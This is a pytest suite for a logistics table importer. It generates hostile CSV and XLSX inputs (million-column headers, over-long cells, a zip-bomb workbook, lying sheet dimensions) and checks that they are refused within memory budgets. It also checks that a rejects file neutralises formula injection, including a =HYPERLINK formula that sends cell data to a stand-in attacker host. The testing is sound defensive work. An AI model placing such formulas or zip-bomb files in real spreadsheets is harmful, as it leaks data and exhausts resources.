"""Hostile input files: every one accepted or refused with a sentence, within budgets.

The files are built here (never committed): a header of a hundred thousand or a million
columns with bad rows under it, cells and lines too long, XLSX files whose zip unpacks
far beyond their size (a 300 MB shared string), sheets of a million empty rows with and
without data after them, a sheet whose ``<dimension>`` lies, a rejects file whose header
is a formula. The heaviest are read in a subprocess whose peak memory is measured
(generous limits; the figures are in ``benchmarks/hostile_inputs.py``).
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from logistics.errors import InvalidInput
from logistics.io import budgets
from logistics.io.road_table import read_matrix
from logistics.io.tables import open_table, write_rejects
from logistics.io.waybills import read_waybills, write_waybill_rejects

ROOT = Path(__file__).resolve().parents[2]
ALIASES = {
    "station": ["站点"],
    "order_ref": ["订单号"],
    "recipient_name": ["收件人"],
    "province": ["省份"],
    "weight_kg": ["重量"],
}
REQUIRED = ["station", "weight_kg"]
HEADER = ["站点", "订单号", "收件人", "省份", "重量"]
PARCEL = ["S01", "A1", "张三", "贵州", "2.5"]

_SML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"


def write_xlsx(
    path: Path,
    rows: list[tuple[int | None, list[str]]],
    *,
    empty: range = range(0),
    empty_at: int | None = None,
    dimension: str | None = None,
    shared: str | None = None,
    prefix: str = "",
) -> Path:
    """A minimal workbook written as XML, so that millions of rows cost nothing.

    ``rows`` are (row number or None for no r attribute, cells) as inline strings;
    ``empty`` rows are styled empty rows as Excel and WPS write them, placed after the
    ``empty_at``-th row (after all rows by default); ``shared`` is one shared string
    put in cell A1 of an extra row at the top.
    """
    p = f"{prefix}:" if prefix else ""
    xmlns = f'xmlns:{prefix}="{_SML}"' if prefix else f'xmlns="{_SML}"'

    def row_xml(number: int | None, cells: list[str]) -> str:
        r = f' r="{number}"' if number is not None else ""
        inner = "".join(
            f'<{p}c t="inlineStr"><{p}is><{p}t>{c}</{p}t></{p}is></{p}c>' for c in cells
        )
        return f"<{p}row{r}>{inner}</{p}row>"

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{_PKG}/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PKG}/relationships"><Relationship Id="rId1" '
            f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{_SML}" xmlns:r="{_REL}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_PKG}/relationships">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
        )
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
            f.write(f'<sst xmlns="{_SML}"><si><t>'.encode())
            if shared:
                for i in range(0, len(shared), 1 << 22):
                    f.write(shared[i : i + (1 << 22)].encode())
            f.write(b"</t></si></sst>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(f"<{p}worksheet {xmlns}>".encode())
            if dimension:
                f.write(f'<{p}dimension ref="{dimension}"/>'.encode())
            f.write(f"<{p}sheetData>".encode())
            if shared is not None:
                f.write(f'<{p}row r="1"><{p}c t="s"><{p}v>0</{p}v></{p}c></{p}row>'.encode())
            at = len(rows) if empty_at is None else empty_at
            for number, cells in rows[:at]:
                f.write(row_xml(number, cells).encode())
            for start in range(0, len(empty), 50_000):
                f.write(
                    "".join(
                        f'<{p}row r="{n}" s="1" customFormat="1"/>'
                        for n in empty[start : start + 50_000]
                    ).encode()
                )
            for number, cells in rows[at:]:
                f.write(row_xml(number, cells).encode())
            f.write(f"</{p}sheetData></{p}worksheet>".encode())
    return path


def write_rows(path: Path, rows, encoding: str = "utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def read(path, **options):
    table = open_table(path, ALIASES, REQUIRED, **options)
    return table, list(table.records(list(ALIASES)))


READ_ALL = """
import json, sys
from logistics.errors import HubError
from logistics.io.tables import open_table
aliases = json.loads(sys.argv[2])
outcome = "accepted"
try:
    table = open_table(sys.argv[1], aliases, ["station", "weight_kg"])
    kept = [(n, cells) for n, cells, _ in table.records(list(aliases))]  # as rejects are kept
    outcome = f"accepted {len(kept)}"
except HubError as error:
    outcome = "refused: " + str(error)
# this process's own peak (getrusage would count the parent's size at the fork)
with open("/proc/self/status") as status:
    peak = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
print(json.dumps({"outcome": outcome, "peak_mb": peak / 1024}))
"""


def read_in_subprocess(path: Path) -> dict:
    done = subprocess.run(
        [sys.executable, "-c", READ_ALL, str(path), json.dumps(ALIASES)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout)


# ------------------------------------------------------------------ item 3: budgets


def test_a_million_column_header_with_a_thousand_bad_rows_is_refused_in_bounded_memory(
    tmp_path,
):
    path = tmp_path / "wide.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(",".join(HEADER + [f"x{i}" for i in range(1_000_000 - len(HEADER))]) + "\n")
        for i in range(1_000):
            f.write(f"S01,B{i},李四,火星,-1\n")
    result = read_in_subprocess(path)
    assert result["outcome"].startswith("refused: File 'wide.csv' line 1 is longer than")
    assert result["peak_mb"] < 300  # was a MemoryError (1.7 GB and more)


def test_a_hundred_thousand_column_header_is_refused_naming_the_columns(tmp_path):
    path = tmp_path / "wide.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(",".join(HEADER + [str(i) for i in range(100_000 - len(HEADER))]) + "\n")
        for i in range(1_000):
            f.write(f"S01,B{i},李四,火星,-1\n")
    result = read_in_subprocess(path)
    assert result["outcome"] == (
        "refused: File 'wide.csv' row 1 has 100,000 columns: expected at most 500; "
        "delete the columns the import does not need and import it again."
    )
    assert result["peak_mb"] < 300  # was 855 MB with the rows kept


def test_columns_beyond_the_budget_are_refused_but_trailing_empty_cells_do_not_count(tmp_path):
    wide = write_rows(tmp_path / "wide.csv", [HEADER + [f"c{i}" for i in range(600)], PARCEL])
    with pytest.raises(InvalidInput, match=r"'wide.csv' row 1 has 605 columns: expected at most"):
        read(wide)
    # Excel writes a row's empty cells up to the sheet's last used column
    ragged = write_rows(tmp_path / "ragged.csv", [HEADER + [""] * 2000, PARCEL + [""] * 2000])
    table, records = read(ragged)
    assert table.headers == HEADER
    assert records[0][2] == ("S01", "A1", "张三", "贵州", "2.5")
    assert len(records[0][1]) <= len(HEADER) + 1
    data_too_wide = write_rows(tmp_path / "row.csv", [HEADER, PARCEL + ["x"] * 600])
    with pytest.raises(InvalidInput, match=r"'row.csv' row 2 has 605 columns"):
        read(data_too_wide)


def test_a_rejected_row_keeps_its_own_cells_not_the_header_width(tmp_path):
    path = write_rows(tmp_path / "a.csv", [HEADER + [f"备注{i}" for i in range(400)], PARCEL])
    table, records = read(path)
    number, cells, values = records[0]
    assert cells[:5] == PARCEL
    assert len(cells) <= len(PARCEL) + 1  # was padded to the header's 405 columns
    assert table.original(table_row(number, cells)) == dict(zip(HEADER, PARCEL, strict=True))


def table_row(number, cells):
    from logistics.io.tables import TableRow

    return TableRow(number, {}, cells)


def test_a_cell_over_excels_limit_is_refused(tmp_path):
    path = write_rows(tmp_path / "long.csv", [HEADER, [*PARCEL[:2], "x" * 40_000, *PARCEL[3:]]])
    with pytest.raises(
        InvalidInput, match=r"'long.csv' row 2 column 3 has 40,000 characters in one cell"
    ):
        read(path)
    huge = write_rows(tmp_path / "huge.csv", [HEADER, [*PARCEL[:2], "x" * 200_000, *PARCEL[3:]]])
    with pytest.raises(InvalidInput, match=r"'huge.csv' line 2 has a cell of more than 32,767"):
        read(huge)


def test_an_endless_line_is_refused_without_reading_it_whole(tmp_path):
    path = tmp_path / "endless.csv"
    with open(path, "w", encoding="utf-8") as f:
        f.write(",".join(HEADER) + "\n")
        f.write("S01,A1," + "x," * 1_500_000 + "\n")
    with pytest.raises(InvalidInput, match=r"'endless.csv' line 2 is longer than 2,000,000"):
        read(path)


def test_an_xlsx_holding_a_300_mb_shared_string_is_refused_before_it_is_unpacked(tmp_path):
    path = write_xlsx(tmp_path / "bomb.xlsx", [(2, HEADER), (3, PARCEL)], shared="A" * 300_000_000)
    assert path.stat().st_size < 1_000_000
    result = read_in_subprocess(path)
    assert result["outcome"].startswith("refused: File 'bomb.xlsx' unpacks to 300.0 MB from")
    assert result["peak_mb"] < 300  # was 1.3 GB


def test_a_big_part_is_refused_even_when_the_ratio_is_fine(tmp_path, monkeypatch):
    path = write_xlsx(tmp_path / "big.xlsx", [(2, HEADER), (3, PARCEL)], shared="B" * 200_000)
    monkeypatch.setattr(budgets, "XLSX_MAX_PART_BYTES", 100_000)
    with pytest.raises(
        InvalidInput, match=r"'big.xlsx' has a part 'xl/sharedStrings.xml' of 200 KB"
    ):
        read(path)


def test_a_shared_string_over_the_cell_limit_is_refused(tmp_path):
    path = write_xlsx(tmp_path / "long.xlsx", [(2, HEADER), (3, PARCEL)], shared="C" * 40_000)
    with pytest.raises(InvalidInput, match=r"'long.xlsx' row 1 column 1 has 40,000 characters"):
        read(path)


def test_a_million_empty_rows_after_the_data_are_never_read(tmp_path):
    rows = [(1, HEADER), (2, PARCEL), (3, ["S02", "A2", "李四", "湖南", "1"])]
    path = write_xlsx(tmp_path / "empty.xlsx", rows, empty=range(4, 1_000_004))
    result = read_in_subprocess(path)
    assert result == {"outcome": "accepted 2", "peak_mb": result["peak_mb"]}
    assert result["peak_mb"] < 300  # was 1.4 GB and 75 s for 3 million rows
    table, records = read(path)
    assert table.total_rows_hint == 2  # not a million


def test_a_lying_dimension_and_empty_rows_without_a_header(tmp_path):
    # the dimension says three million rows; there is only a title and empty rows, so
    # the header search finds nothing (it used to read every empty row looking)
    path = write_xlsx(
        tmp_path / "title.xlsx",
        [(1, ["发货清单"])],
        empty=range(2, 300_002),
        dimension="A1:J3000000",
    )
    with pytest.raises(InvalidInput, match=r"'title.xlsx' has no 'station', 'weight_kg' columns"):
        read(path)
    # a dimension that says less than the sheet has is not trusted either
    rows = [(1, HEADER), *((n, ["S01", f"A{n}", "张三", "贵州", "1"]) for n in range(2, 60))]
    table, records = read(write_xlsx(tmp_path / "short.xlsx", rows, dimension="A1:B3"))
    assert [n for n, _, _ in records] == list(range(2, 60))


def test_data_after_a_long_run_of_empty_rows_is_refused_not_dropped(tmp_path):
    rows = [(1, HEADER), (2, PARCEL), (1_505, ["S02", "A2", "李四", "湖南", "1"])]
    path = write_xlsx(tmp_path / "gap.xlsx", rows, empty=range(3, 1_505), empty_at=2)
    with pytest.raises(InvalidInput) as refused:
        read(path)
    assert str(refused.value) == (
        "File 'gap.xlsx' sheet 'Sheet1' has 1,502 empty rows (rows 3 to 1,504) and then "
        "more data in row 1,505: delete the empty rows (or move the data up) and import it "
        "again."
    )
    # a shorter run is read through
    rows = [(1, HEADER), (2, PARCEL), (905, ["S02", "A2", "李四", "湖南", "1"])]
    path = write_xlsx(tmp_path / "short-gap.xlsx", rows, empty=range(3, 905), empty_at=2)
    _, records = read(path)
    assert [n for n, _, _ in records] == [2, 905]


def test_a_header_after_a_long_run_of_empty_rows_is_refused(tmp_path):
    path = write_xlsx(
        tmp_path / "late.xlsx",
        [(5_000, HEADER), (5_001, PARCEL)],
        empty=range(1, 5_000),
        empty_at=0,
    )
    with pytest.raises(InvalidInput, match=r"4,999 empty rows \(rows 1 to 4,999\)"):
        read(path)


def test_rows_without_numbers_and_prefixed_xml_are_counted_as_openpyxl_counts_them(tmp_path):
    rows = [(None, HEADER), (None, PARCEL), (None, []), (7, ["S02", "A2", "李四", "湖南", "1"])]
    rows += [(None, ["S03", "A3", "王五", "广东", "3"])]
    for prefix in ("", "x"):
        path = write_xlsx(tmp_path / f"plain{prefix}.xlsx", rows, prefix=prefix)
        _, records = read(path)
        assert [(n, v[0]) for n, _, v in records] == [(2, "S01"), (7, "S02"), (8, "S03")]


def test_a_workbook_saved_by_openpyxl_still_reads(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for n in range(200):
        sheet.append(["S01", f"A{n}", "张三", "贵州", 1.5])
    sheet.cell(row=5_000, column=1).number_format = "0.00"  # a formatted cell far below
    book.save(tmp_path / "book.xlsx")
    table, records = read(tmp_path / "book.xlsx")
    assert len(records) == 200
    assert table.total_rows_hint == 200


def test_an_xlsx_with_more_rows_than_it_can_read_in_time_is_refused_before_reading(
    tmp_path, monkeypatch
):
    """openpyxl reads about 6,000 rows a second: past XLSX_MAX_ROWS the file would take
    longer than an import may, so it is refused at once with the way out (CSV)."""
    assert budgets.XLSX_MAX_ROWS >= 30_000  # a peak day (Double 11) still fits
    monkeypatch.setattr(budgets, "XLSX_MAX_ROWS", 150)
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    for n in range(200):
        book.active.append(["S01", f"A{n}", "张三", "贵州", 1.5])
    book.save(tmp_path / "big.xlsx")
    with pytest.raises(InvalidInput, match=r"has 201 rows: an XLSX file may have at most 150"):
        read(tmp_path / "big.xlsx")


def test_a_hostile_waybill_file_and_road_table_are_refused_too(tmp_path):
    waybills = write_rows(
        tmp_path / "wb.csv", [["运单号", "中心编号"] + [f"c{i}" for i in range(600)]]
    )
    with pytest.raises(InvalidInput, match=r"'wb.csv' row 1 has 602 columns"):
        read_waybills(waybills)
    roads = write_rows(tmp_path / "roads.csv", [["HUB", "S01", "1" * 40_000]])
    with pytest.raises(InvalidInput, match=r"'roads.csv' line 1 column 3 has 40,000 characters"):
        read_matrix(roads, ["HUB", "S01"], 30)
    wide = write_rows(tmp_path / "wide.csv", [["HUB", "S01", "3", *(["x"] * 600)]])
    with pytest.raises(InvalidInput, match=r"'wide.csv' line 1 has 603 columns"):
        read_matrix(wide, ["HUB", "S01"], 30)
    latin = tmp_path / "latin.csv"
    latin.write_bytes("from,to,km\nHUB,S01,3\n# Straße über Köln\n".encode("latin-1"))
    with pytest.raises(InvalidInput, match=r"--encoding"):
        read_matrix(latin, ["HUB", "S01"], 30)
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes("起点,终点,公里\nHUB,S01,3\n# 高都镇到凯里\n".encode("gb18030"))
    metres, _ = read_matrix(gbk, ["HUB", "S01"], 30)
    assert metres[0, 1] == 3000


# --------------------------------------------------- item 8: rejects neutralise formulas


def test_a_formula_header_is_neutralised_in_the_rejects_file(tmp_path):
    headers = ['=HYPERLINK("http://evil.example/?"&A2,"点我")', "站点", "+1+cmd", "@SUM(A1)"]
    target = tmp_path / "rejects.csv"
    write_rejects(target, headers, [({"站点": "=1+1", headers[0]: "-2+3"}, "bad")])
    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0] == [
        '\'=HYPERLINK("http://evil.example/?"&A2,"点我")',
        "站点",
        "'+1+cmd",
        "'@SUM(A1)",
        "reason",
    ]
    assert rows[1] == ["'-2+3", "'=1+1", "", "", "bad"]


def test_a_formula_header_of_a_waybill_file_is_neutralised_in_its_rejects(tmp_path):
    source = write_rows(
        tmp_path / "wb.csv", [["运单号", "中心编号", "=HYPERLINK(1)"], ["ZT1", "P1", "=2"]]
    )
    waybills = read_waybills(source)
    target = tmp_path / "wb-rejects.csv"
    write_waybill_rejects(target, waybills, [(waybills.lines[0], "unknown")])
    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert rows == [
        ["运单号", "中心编号", "'=HYPERLINK(1)", "reason"],
        ["ZT1", "P1", "'=2", "unknown"],
    ]
